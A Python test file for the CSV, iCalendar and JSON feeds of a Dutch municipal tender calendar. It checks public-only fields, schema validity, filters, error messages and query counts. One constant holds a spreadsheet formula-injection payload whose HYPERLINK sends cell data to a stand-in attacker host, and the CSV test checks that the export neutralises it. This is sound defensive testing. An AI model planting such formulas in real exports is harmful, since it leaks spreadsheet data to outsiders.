"""The aanbestedingskalender's feeds: CSV (formula injection neutralised), iCalendar (parses back, one all-day event
per project over its tender quarter, stable UID) and JSON (valid against its published JSON Schema). Public fields
only, the kalender's filters, a clear 400 for a filter that cannot be read, and pinned query counts."""

import csv
import datetime
import io
from decimal import Decimal

import jsonschema
import pytest
from icalendar import Calendar

from projecten import feeds
from projecten.kwartalen import huidig_kwartaal, kwartaal_code, kwartaal_plus
from tests.conftest import client_for
from tests.factories import GebiedFactory, ProjectFactory, UserFactory, WaardeklasseFactory
from tests.querycount import assert_queries_stable

pytestmark = pytest.mark.django_db

CSV, ICS, JSON, SCHEMA = (
    "/projecten/kalender.csv",
    "/projecten/kalender.ics",
    "/projecten/kalender.json",
    "/projecten/kalender/schema.json",
)
FORMULE = '=HYPERLINK("https://aanval.example/?d="&A1,"Klik hier")'
# Text that may only show on the members' page, never in a feed.
INTERN = ["Alleen voor de eigen gemeente", "9876543", "contact@dordrecht.test", "Besproken: bouwteam"]


def kwartaal(plus: int) -> datetime.date:
    return kwartaal_plus(huidig_kwartaal(), plus)


@pytest.fixture(autouse=True)
def _site_url(settings):
    settings.SITE_URL = "https://kring.example"


@pytest.fixture
def projecten(gemeente_org):
    contact = UserFactory(email="contact@dordrecht.test", organisatie=gemeente_org)
    return [
        ProjectFactory(
            gemeente=gemeente_org,
            nummer="DOR-1",
            naam="Renovatie Visbrug",
            soort_werk="kunstwerken",
            aanbesteding_kwartaal=kwartaal(1),
            start_kwartaal=kwartaal(2),
            zekerheid="hoog",
            omschrijving="Alleen voor de eigen gemeente",
            raming=Decimal("9876543"),
            contactpersoon=contact,
            bespreking="Besproken: bouwteam",
            waardeklasse=WaardeklasseFactory(naam="€ 5 mln en meer", code="groot", bovengrens=None),
        ),
        ProjectFactory(
            gemeente=gemeente_org,
            nummer="DOR-2",
            naam=FORMULE,
            gebied=GebiedFactory(gemeente=gemeente_org, naam="Stadspolders", code="stadspolders"),
            aanbesteding_kwartaal=kwartaal(3),
            start_kwartaal=None,
            zekerheid="laag",
        ),
        ProjectFactory(nummer="ZWD-1", naam="Riolering Kijfhoek", soort_werk="riolering"),
        ProjectFactory(nummer="OUD-1", naam="Al in uitvoering", fase="uitvoering"),  # not on the kalender
    ]


# --- CSV -------------------------------------------------------------------------------------------------------------


def csv_rijen(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def test_csv_holds_the_public_fields_with_formulas_neutralised(projecten):
    response = client_for(None).get(CSV)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="aanbestedingskalender-')
    kop, *rijen = csv_rijen(response)
    assert kop[:2] == ["Projectnummer", "Naam"] and len(kop) == 10
    assert [rij[0] for rij in rijen] == ["DOR-1", "ZWD-1", "DOR-2"]
    visbrug = rijen[0]
    assert visbrug[1:] == [
        "Renovatie Visbrug",
        "Gemeente Dordrecht (test)",
        projecten[0].gebied.naam,
        "Bruggen en kunstwerken",
        kwartaal_code(kwartaal(1)),
        "€ 5 mln en meer",
        "Nog onbekend",
        "Nog onbekend",
        "Hoog",
    ]
    assert rijen[2][1] == "'" + FORMULE  # a spreadsheet shows it as text instead of running it
    for tekst in INTERN:
        assert tekst not in response.content.decode("utf-8-sig")


def test_csv_takes_the_kalender_filters(projecten):
    rijen = csv_rijen(client_for(None).get(f"{CSV}?zekerheid=laag"))[1:]
    assert [rij[0] for rij in rijen] == ["DOR-2"]


# --- iCalendar -------------------------------------------------------------------------------------------------------


def test_icalendar_parses_back_with_one_all_day_event_per_project(projecten):
    response = client_for(None).get(ICS)
    assert response.status_code == 200 and response["Content-Type"] == "text/calendar; charset=utf-8"
    kalender = Calendar.from_ical(response.content)
    assert kalender["PRODID"] and kalender["VERSION"] == "2.0" and kalender["METHOD"] == "PUBLISH"
    events = kalender.walk("VEVENT")
    op_project = {event["UID"]: event for event in events}
    assert len(events) == len(op_project) == 3
    visbrug = op_project[f"aanbesteding-project-{projecten[0].pk}@kring.example"]
    assert visbrug.decoded("DTSTART") == kwartaal(1)  # a date: all day
    assert visbrug.decoded("DTEND") == kwartaal(2)  # exclusive: the whole quarter
    assert str(visbrug["SUMMARY"]) == "Aanbesteding DOR-1 Renovatie Visbrug"
    assert "Bruggen en kunstwerken" in str(visbrug["DESCRIPTION"])
    assert str(visbrug["URL"]).startswith("https://kring.example/projecten/kalender/?gemeente=")
    assert visbrug.decoded("LAST-MODIFIED") == projecten[0].gewijzigd_op.replace(microsecond=0)
    assert str(visbrug["STATUS"]) == "CONFIRMED"
    laag = op_project[f"aanbesteding-project-{projecten[1].pk}@kring.example"]
    assert str(laag["STATUS"]) == "TENTATIVE"
    for tekst in INTERN:
        assert tekst not in response.content.decode()


def test_the_uid_stays_when_the_tender_moves(projecten):
    voor = Calendar.from_ical(client_for(None).get(ICS).content).walk("VEVENT")[0]
    projecten[0].aanbesteding_kwartaal = kwartaal(2)
    projecten[0].save()
    na = {event["UID"]: event for event in Calendar.from_ical(client_for(None).get(ICS).content).walk("VEVENT")}
    assert na[voor["UID"]].decoded("DTSTART") == kwartaal(2)


def test_icalendar_takes_the_kalender_filters(projecten):
    kalender = Calendar.from_ical(client_for(None).get(f"{ICS}?soort_werk=riolering").content)
    assert [str(event["SUMMARY"]) for event in kalender.walk("VEVENT")] == ["Aanbesteding ZWD-1 Riolering Kijfhoek"]


# --- JSON ------------------------------------------------------------------------------------------------------------


def valideer(inhoud: dict, schema: dict) -> None:
    jsonschema.Draft202012Validator(schema, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER).validate(
        inhoud
    )


def test_the_schema_is_a_valid_draft_2020_12_schema():
    response = client_for(None).get(SCHEMA)
    assert response.status_code == 200 and response["Content-Type"] == "application/schema+json"
    schema = response.json()
    jsonschema.Draft202012Validator.check_schema(schema)
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    assert schema["$id"] == "https://kring.example/projecten/kalender/schema.json"


def test_the_json_feed_matches_its_schema(projecten):
    schema = client_for(None).get(SCHEMA).json()
    response = client_for(None).get(JSON)
    assert response.status_code == 200 and response["Access-Control-Allow-Origin"] == "*"
    inhoud = response.json()
    valideer(inhoud, schema)
    assert inhoud["$schema"] == schema["$id"]
    assert inhoud["aantal"] == 3 and [p["nummer"] for p in inhoud["projecten"]] == ["DOR-1", "ZWD-1", "DOR-2"]
    visbrug = inhoud["projecten"][0]
    assert visbrug["kwartaal"] == {
        "code": kwartaal_code(kwartaal(1)),
        "label": f"{(kwartaal(1).month - 1) // 3 + 1}e kwartaal {kwartaal(1).year}",
        "begin": kwartaal(1).isoformat(),
        "einde": (kwartaal(2) - datetime.timedelta(days=1)).isoformat(),
    }
    assert visbrug["soort_werk"] == {"code": "kunstwerken", "label": "Bruggen en kunstwerken"}
    assert visbrug["waardeklasse"] == {"code": "groot", "naam": "€ 5 mln en meer", "vanaf": 250000, "tot": None}
    for tekst in INTERN:
        assert tekst not in response.content.decode()


def test_the_json_feed_names_its_filters(projecten, gemeente_org):
    inhoud = client_for(None).get(f"{JSON}?gemeente={gemeente_org.pk}&zekerheid=&onbekend=x").json()
    assert inhoud["filters"] == {"gemeente": str(gemeente_org.pk)}
    assert [p["nummer"] for p in inhoud["projecten"]] == ["DOR-1", "DOR-2"]
    leeg = client_for(None).get(f"{JSON}?van={kwartaal_code(kwartaal(8))}").json()
    valideer(leeg, feeds.schema())
    assert leeg["aantal"] == 0 and leeg["projecten"] == []


def test_the_documented_example_matches_the_schema(projecten):
    valideer(feeds.voorbeeld(), feeds.schema())
    inhoud = client_for(None).get("/projecten/kalender/").content.decode()
    assert "Renovatie Visbrug" in inhoud and "&quot;schema_versie&quot;: 1" in inhoud
    for naam, _soort, _uitleg in feeds.schema_velden():
        assert f"<code>{naam}</code>" in inhoud
    assert 'href="/projecten/kalender/schema.json"' in inhoud


def test_the_schema_rejects_what_the_feed_must_not_hold(projecten):
    inhoud = client_for(None).get(JSON).json()
    inhoud["projecten"][0]["raming"] = 9876543
    with pytest.raises(jsonschema.ValidationError, match="Additional properties"):
        valideer(inhoud, feeds.schema())


# --- Filters that cannot be read -------------------------------------------------------------------------------------


@pytest.mark.parametrize("feed", [CSV, ICS, JSON])
def test_an_unreadable_filter_is_a_clear_400(projecten, feed):
    response = client_for(None).get(f"{feed}?van=volgend+jaar")
    assert response.status_code == 400
    assert "'volgend jaar' is geen kwartaal" in response.content.decode()
    response = client_for(None).get(f"{feed}?van={kwartaal_code(kwartaal(3))}&tot={kwartaal_code(kwartaal(1))}")
    assert response.status_code == 400 and "ligt vóór het kwartaal ‘vanaf’" in response.content.decode()


# --- Query counts ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("feed", [CSV, ICS, JSON])
def test_feed_query_count_does_not_grow(gemeente_org, feed):
    def grow(n):
        for i in range(n):
            ProjectFactory(gemeente=gemeente_org, aanbesteding_kwartaal=kwartaal(i % 8), start_kwartaal=None)

    # The filter's choices are not rendered: only the projects.
    assert_queries_stable(client_for(None), feed, expected=1, grow=grow)


def test_feeds_with_a_gemeente_filter_check_it_once(gemeente_org):
    def grow(n):
        for _ in range(n):
            ProjectFactory(gemeente=gemeente_org)

    # The chosen gemeente (is it one of the choices?) and the projects.
    assert_queries_stable(client_for(None), f"{JSON}?gemeente={gemeente_org.pk}", expected=2, grow=grow)
